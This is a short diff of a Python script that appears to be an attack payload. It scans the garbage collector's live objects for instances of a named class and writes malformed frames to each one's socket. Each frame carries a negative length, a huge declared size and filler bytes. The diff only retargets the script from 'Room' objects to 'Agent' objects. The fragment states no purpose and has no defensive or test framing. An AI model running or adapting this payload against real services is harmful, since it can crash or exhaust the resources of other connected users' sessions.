@@ -7,7 +7,7 @@ import os
 import struct
 
 for room in gc.get_objects():
-    if type(room).__name__ == "Room":
+    if type(room).__name__ == "Agent":
         os.write(
             room.connection.fileno(), struct.pack("!i", -1) + struct.pack("!Q", 2**62) + b"x" * 999
         )
